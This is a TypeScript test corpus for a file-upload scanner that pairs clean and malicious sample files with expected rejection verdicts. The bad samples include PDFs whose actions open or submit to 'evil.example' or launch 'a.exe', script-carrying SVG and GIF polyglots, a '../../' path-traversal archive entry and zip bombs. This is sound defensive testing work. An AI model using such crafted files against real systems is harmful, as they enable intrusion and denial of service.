import { createHash } from 'node:crypto';
import type { DocumentRejection } from '../../../functions/core/domain/document.ts';
import {
  aJpeg,
  aPdf,
  aPng,
  bareEicar,
  eicar,
  emptyFile,
  encryptedPdf,
  objectStream,
  pdfWithPackedScript,
  pdfWithScript,
  polyglot,
  truncatedJpeg,
  truncatedPng,
} from '../files.ts';
import {
  anOfficeFile,
  anOpenDocument,
  compoundFile,
  DOCX,
  fieldThatStarts,
  macroDocument,
  ODS,
  ODT,
  PPTX,
  remoteTemplate,
  withLink,
  XLSX,
} from './office.ts';
import { aProgressiveJpeg, brokenScan, pngOf, svgWithScript } from './pictures.ts';
import { aZip, overlappingZip } from './zip.ts';

export const PDF = 'application/pdf';
export const JPEG = 'image/jpeg';
export const PNG = 'image/png';
export const ZIP = 'application/zip';

/** A file, what it is announced as, and the one verdict that it may get. */
export interface Sample {
  readonly what: string;
  readonly bytes: Buffer;
  readonly contentType: string;
  readonly verdict: 'clean' | DocumentRejection;
  /** The one layer that finds it, where all the others let it pass. */
  readonly onlyBy?: string;
  /** Where the announcement says something else than the file is. */
  readonly announced?: { readonly sha256?: string; readonly sizeBytes?: number };
}

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');
const hashOf = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex');
/** Something behind a file. */
const behind = (first: Buffer, second: Buffer | string): Buffer =>
  Buffer.concat([first, Buffer.from(second)]);
/** A comment into a JPEG, behind its first mark. */
const withComment = (jpeg: Buffer, text: string): Buffer => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    latin1(text),
    jpeg.subarray(2),
  ]);
};
const opening = (action: string): Buffer => aPdf({ objects: [action], catalog: '/OpenAction 4 0 R ' });
const page = '<!doctype html><script>alert(1)</script>';
const docx = (): Buffer => anOfficeFile(DOCX);
const inZip = (name: string, content: Buffer): Buffer => aZip([{ name, content }]);

export const good: readonly Sample[] = [
  ['a PDF', aPdf(), PDF],
  ['a PDF that opens at its first page', opening('<< /S /GoTo /D [3 0 R /Fit] >>'), PDF],
  ['a PDF that opens at a place', aPdf({ catalog: '/OpenAction [3 0 R /FitH null] ' }), PDF],
  [
    'a PDF that opens at its first page, and says so in object streams alone',
    aPdf({
      objects: [
        objectStream('<< /Type /Catalog /OpenAction 8 0 R >>'),
        objectStream('<< /S /GoTo /D [3 0 R /Fit] >>', '/Type /ObjStm', 8),
      ],
    }),
    PDF,
  ],
  ['a JPEG', aJpeg(), JPEG],
  ['a progressive JPEG', aProgressiveJpeg(), JPEG],
  ['a JPEG with a film behind it', behind(aJpeg(), latin1('\0\0\0\x18ftypmp42isom')), JPEG],
  ['a JPEG with a second exposure behind it', behind(aJpeg(), aJpeg()), JPEG],
  ['a PNG', aPng(), PNG],
  ['an interlaced PNG', pngOf({ width: 9, height: 5, isInterlaced: true }), PNG],
  ['a PNG with a palette', pngOf({ width: 3, height: 2, colour: 3 }), PNG],
  ['a text document', docx(), DOCX],
  ['a text document with an address in it', withLink(), DOCX],
  [
    'a text document with a picture',
    anOfficeFile(DOCX, { more: [{ name: 'word/media/image1.png', content: aPng() }] }),
    DOCX,
  ],
  [
    'a presentation with a table in it',
    anOfficeFile(PPTX, { more: [{ name: 'ppt/embeddings/a.xlsx', content: anOfficeFile(XLSX) }] }),
    PPTX,
  ],
  ['a table', anOfficeFile(XLSX), XLSX],
  ['an open text document', anOpenDocument(ODT), ODT],
  ['an open table', anOpenDocument(ODS), ODS],
  [
    'an archive of documents',
    aZip([
      { name: 'plans/', content: '', isStored: true },
      { name: 'plans/圖.pdf', content: aPdf() },
      { name: 'a.jpg', content: aJpeg() },
      { name: 'a.docx', content: docx() },
    ]),
    ZIP,
  ],
].map(([what, bytes, contentType]) => ({ what, bytes, contentType, verdict: 'clean' }) as Sample);

type Bad = readonly [
  what: string,
  bytes: Buffer,
  contentType: string,
  verdict: DocumentRejection,
  onlyBy?: string | undefined,
  announced?: Sample['announced'],
];

const bad: readonly Bad[] = [
  ['a file of no bytes', emptyFile(), PDF, 'EMPTY', undefined, { sizeBytes: 1 }],
  ['a file shorter than announced', aPdf(), PDF, 'SIZE_DIFFERS', 'size', { sizeBytes: aPdf().length + 1 }],
  [
    'a file with another hash than announced',
    aPdf(),
    PDF,
    'HASH_DIFFERS',
    'hash',
    { sha256: hashOf(aPng()) },
  ],
  ['a picture that calls itself a PDF', aPng(), PDF, 'TYPE_DIFFERS'],
  ['a page that calls itself a PNG', Buffer.from(page), PNG, 'TYPE_DIFFERS'],
  ['a document that calls itself an archive', docx(), ZIP, 'TYPE_DIFFERS'],
  ['a table that calls itself a text', anOfficeFile(XLSX), DOCX, 'TYPE_DIFFERS', 'type'],
  ['an old document of Office', compoundFile(), 'application/msword', 'TYPE_UNKNOWN'],
  ['a drawing with a script', svgWithScript(), 'image/svg+xml', 'TYPE_UNKNOWN'],
  ['a drawing with a script that calls itself a PNG', svgWithScript(), PNG, 'TYPE_DIFFERS'],
  ['a GIF that is a script', latin1('GIF89a=1;alert(1)//'), 'image/gif', 'TYPE_UNKNOWN'],
  ['a GIF that is a script and calls itself a PNG', latin1('GIF89a=1;alert(1)//'), PNG, 'TYPE_DIFFERS'],
  ['EICAR in a good PDF', eicar(), PDF, 'MALWARE', 'malware'],
  ['EICAR as such', bareEicar(), PDF, 'MALWARE'],
  ['EICAR in an archive', inZip('a.pdf', eicar()), ZIP, 'MALWARE', 'archive'],
  ['a locked PDF', encryptedPdf(), PDF, 'PDF_ENCRYPTED', 'pdf-lock'],
  ['a PDF with JavaScript', pdfWithScript(), PDF, 'PDF_WITH_SCRIPT', 'pdf-script'],
  ['a PDF with JavaScript in an object stream', pdfWithPackedScript(), PDF, 'PDF_WITH_SCRIPT', 'pdf-script'],
  [
    'a PDF whose object stream says nothing of itself',
    pdfWithPackedScript('/Type /Other'),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF that opens an address by itself',
    opening('<< /S /URI /URI (http://evil.example) >>'),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF that opens a page and then an address',
    opening('<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>'),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF that opens an address by itself, and says so in object streams alone',
    aPdf({
      objects: [
        objectStream('<< /Type /Catalog /OpenAction 8 0 R >>'),
        objectStream('<< /S /URI /URI (http://evil.example) >>', '/Type /ObjStm', 8),
      ],
    }),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF whose first version opens a page, and whose second an address',
    aPdf({
      objects: [
        '<< /S /GoTo /D [3 0 R /Fit] >>',
        '<< >>\nendobj\n4 0 obj\n<< /S /URI /URI (http://evil.example) >>',
      ],
      catalog: '/OpenAction 4 0 R ',
    }),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF that does something on a page',
    aPdf({ objects: ['<< /Type /Annot /AA << /O << /S /URI >> >> >>'] }),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF that starts a program',
    opening('<< /S /Launch /F (a.exe) >>'),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF that sends its form',
    aPdf({ objects: ['<< /S /SubmitForm /F (http://evil.example) >>'] }),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF with a player',
    aPdf({ objects: ['<< /Subtype /RichMedia >>'] }),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF with a dynamic form',
    aPdf({ catalog: '/AcroForm << /XFA [(a) 4 0 R] >> ' }),
    PDF,
    'PDF_WITH_SCRIPT',
    'pdf-script',
  ],
  [
    'a PDF with a file attached',
    aPdf({ objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', '<< /Type /EmbeddedFile >>'] }),
    PDF,
    'PDF_WITH_ATTACHMENT',
    'pdf-attachment',
  ],
  ['a PDF that was cut off', aPdf().subarray(0, -30), PDF, 'UNREADABLE', 'pdf-whole'],
  ['a PDF that is a page as well', polyglot(), PDF, 'TYPE_DIFFERS'],
  [
    'a PDF with a page in its comment',
    aPdf({ objects: [`<< >>\n% ${page}`] }),
    PDF,
    'TWO_FILES_IN_ONE',
    'two-in-one',
  ],
  [
    'a PDF with an archive behind it',
    behind(aPdf(), inZip('a.exe', latin1('MZ'))),
    PDF,
    'TWO_FILES_IN_ONE',
    'two-in-one',
  ],
  [
    'an archive that calls itself a PDF inside',
    aZip([{ name: 'a', content: 'MZ' }], { before: aPdf() }),
    PDF,
    'TWO_FILES_IN_ONE',
    'two-in-one',
  ],
  [
    'a JPEG with an archive in its comment',
    withComment(aJpeg(), `Rar!\x1a\x07\x00`),
    JPEG,
    'TWO_FILES_IN_ONE',
    'two-in-one',
  ],
  [
    'a JPEG with an archive behind it',
    behind(aJpeg(), inZip('a.exe', latin1('MZ'))),
    JPEG,
    'TWO_FILES_IN_ONE',
  ],
  [
    'a JPEG with something behind it',
    behind(aJpeg(), 'anything at all'),
    JPEG,
    'TWO_FILES_IN_ONE',
    'jpeg-picture',
  ],
  ['a JPEG with a page in its comment', withComment(aJpeg(), page), JPEG, 'TWO_FILES_IN_ONE', 'two-in-one'],
  [
    'a JPEG with a PDF in its comment',
    withComment(aJpeg(), '%PDF-1.7'),
    JPEG,
    'TWO_FILES_IN_ONE',
    'two-in-one',
  ],
  ['a PNG with an archive behind it', behind(aPng(), 'Rar'), PNG, 'TWO_FILES_IN_ONE', 'png-picture'],
  ['a JPEG that was cut off', truncatedJpeg(), JPEG, 'UNREADABLE', 'jpeg-picture'],
  [
    'a JPEG that was cut off and given an end',
    behind(aProgressiveJpeg().subarray(0, -8), Buffer.from('ffd9', 'hex')),
    JPEG,
    'UNREADABLE',
    'jpeg-picture',
  ],
  ['a JPEG with only good headers', brokenScan(), JPEG, 'UNREADABLE', 'jpeg-picture'],
  ['a PNG that was cut off', truncatedPng(), PNG, 'UNREADABLE', 'png-picture'],
  [
    'a PNG of fewer rows than it says',
    pngOf({ width: 4, height: 4, rows: 3 }),
    PNG,
    'UNREADABLE',
    'png-picture',
  ],
  [
    'a PNG of more rows than it says',
    pngOf({ width: 4, height: 4, rows: 5 }),
    PNG,
    'UNREADABLE',
    'png-picture',
  ],
  ['a PNG with one bit wrong', flipped(pngOf({ width: 4, height: 4 }), 50), PNG, 'UNREADABLE', 'png-picture'],
  [
    'a PNG that unpacks to fill the memory',
    aPng({ width: 60_000, height: 60_000 }),
    PNG,
    'TOO_LARGE',
    'png-picture',
  ],
  ['a document with macros', macroDocument(), DOCX, 'WITH_MACRO', 'archive'],
  [
    'a document with an object of another program',
    anOfficeFile(DOCX, { more: [{ name: 'word/embeddings/a.bin', content: compoundFile() }] }),
    DOCX,
    'WITH_MACRO',
    'archive',
  ],
  ['a document that fetches a template', remoteTemplate(), DOCX, 'WITH_MACRO', 'archive'],
  ['a document with a field that starts a program', fieldThatStarts(), DOCX, 'WITH_MACRO', 'archive'],
  [
    'a document with a drawing with a script',
    anOfficeFile(DOCX, { more: [{ name: 'word/media/a.svg', content: svgWithScript() }] }),
    DOCX,
    'WITH_MACRO',
    'archive',
  ],
  [
    'an open document with macros',
    anOpenDocument(ODT, [{ name: 'Basic/Standard/Module1.xml', content: '<a/>' }]),
    ODT,
    'WITH_MACRO',
    'archive',
  ],
  [
    'an open document that is locked',
    anOpenDocument(ODT, [{ name: 'META-INF/manifest.xml', content: '<manifest:encryption-data/>' }]),
    ODT,
    'ARCHIVE_LOCKED',
    'archive',
  ],
  ['a document with macros in an archive', inZip('a.docx', macroDocument()), ZIP, 'WITH_MACRO', 'archive'],
  ['a PDF with JavaScript in an archive', inZip('a.pdf', pdfWithScript()), ZIP, 'PDF_WITH_SCRIPT', 'archive'],
  [
    'a locked archive',
    aZip([{ name: 'a.pdf', content: aPdf() }], { isLocked: true }),
    ZIP,
    'ARCHIVE_LOCKED',
    'archive',
  ],
  ['a zip bomb', inZip('a.pdf', Buffer.alloc(50_000_000)), ZIP, 'ARCHIVE_TOO_LARGE', 'archive'],
  [
    'a zip bomb that says that it is small',
    aZip([{ name: 'a.pdf', content: Buffer.alloc(50_000_000), saysBytes: 1000 }]),
    ZIP,
    'ARCHIVE_TOO_LARGE',
    'archive',
  ],
  ['a zip bomb of entries that are all one', overlappingZip(), ZIP, 'UNREADABLE', 'archive'],
  [
    'a document that is a zip bomb',
    anOfficeFile(DOCX, { more: [{ name: 'word/a.xml', content: Buffer.alloc(50_000_000, ' ') }] }),
    DOCX,
    'ARCHIVE_TOO_LARGE',
    'archive',
  ],
  [
    'an archive of 3,000 files',
    aZip(Array.from({ length: 3000 }, (_, index) => ({ name: `${index}`, content: '' }))),
    ZIP,
    'ARCHIVE_TOO_LARGE',
    'archive',
  ],
  ['an archive in an archive', inZip('a.zip', inZip('a.pdf', aPdf())), ZIP, 'ARCHIVE_CONTENT', 'archive'],
  ['an archive with a program', inZip('a.exe', latin1('MZ\x90\0')), ZIP, 'ARCHIVE_CONTENT', 'archive'],
  [
    'an archive that unpacks over another folder',
    inZip('../../a.pdf', aPdf()),
    ZIP,
    'ARCHIVE_CONTENT',
    'archive',
  ],
  [
    'an archive with something before it',
    aZip([{ name: 'a.pdf', content: aPdf() }], { before: latin1('PK\x03\x04 anything') }),
    ZIP,
    'UNREADABLE',
    'archive',
  ],
];

function flipped(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = (copy[at] ?? 0) ^ 1;
  return copy;
}

/** Every file, good and bad, with its verdict. */
export const corpus: readonly Sample[] = [
  ...good,
  ...bad.map(([what, bytes, contentType, verdict, onlyBy, announced]) => ({
    what,
    bytes,
    contentType,
    verdict,
    ...(onlyBy !== undefined && { onlyBy }),
    ...(announced && { announced }),
  })),
];
